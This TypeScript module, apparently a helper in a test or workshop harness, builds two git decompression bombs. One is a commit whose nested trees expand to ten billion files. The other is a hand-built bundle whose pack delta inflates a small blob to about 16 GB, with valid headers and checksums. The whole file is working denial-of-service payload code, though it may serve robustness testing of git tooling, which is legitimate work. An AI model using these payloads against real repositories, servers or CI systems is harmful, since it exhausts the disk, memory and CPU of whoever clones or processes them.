/** Small things that become large when they are looked at. */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Checkout } from './workshop.ts';

const levels = 10;

/** Ten folders that are one and the same, in each of which are ten, and so on: ten billion files in a dozen objects. */
export async function treeBomb({ git, folder }: Checkout): Promise<void> {
  await writeFile(path.join(folder, 'file'), 'boom');
  let [mode, type, oid] = ['100644', 'blob', await git('hash-object', '-w', 'file')];
  for (let level = 0; level < levels; level++) {
    const names = Array.from({ length: 10 }, (_, n) => `${mode} ${type} ${oid}\tn${n}\n`);
    await writeFile(path.join(folder, 'listing'), names.join(''));
    oid = await git('-c', 'alias.tree=!git mktree <listing', 'tree');
    [mode, type] = ['040000', 'tree'];
  }
  await git('reset', '--soft', await git('commit-tree', oid, '-p', 'HEAD', '-m', 'feat: bomb'));
}

/** A bundle with this head whose pack holds a file and a delta that repeats it into 16 GB. */
export function deltaBomb(head: Buffer): Buffer {
  const base = Buffer.alloc(0xffff, 'x');
  const times = 250_000;
  // Copy all of the base, again and again: command, offset 0 (no bytes), two bytes of size.
  const copies = Buffer.alloc(3 * times, Buffer.from([0b1011_0000, 0xff, 0xff]));
  const delta = Buffer.concat([sizeOf(base.length), sizeOf(base.length * times), copies]);
  const baseId = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  const objects = [
    ...[packedHead(3, base.length), deflateSync(base)],
    ...[packedHead(7, delta.length), baseId, deflateSync(delta)],
  ];
  const pack = Buffer.concat([Buffer.from('PACK\0\0\0\x02\0\0\0\x02', 'latin1'), ...objects]);
  return Buffer.concat([head, pack, createHash('sha1').update(pack).digest()]);
}

/** A number as deltas have it: seven bits at a time, the lowest first. */
function sizeOf(value: number): Buffer {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

/** An object's head in a pack: its type and four bits of its size, then the rest as in deltas. */
function packedHead(type: number, size: number): Buffer {
  const first = (type << 4) | (size & 0x0f);
  if (size < 16) return Buffer.from([first]);
  return Buffer.concat([Buffer.from([first | 0x80]), sizeOf(Math.floor(size / 16))]);
}
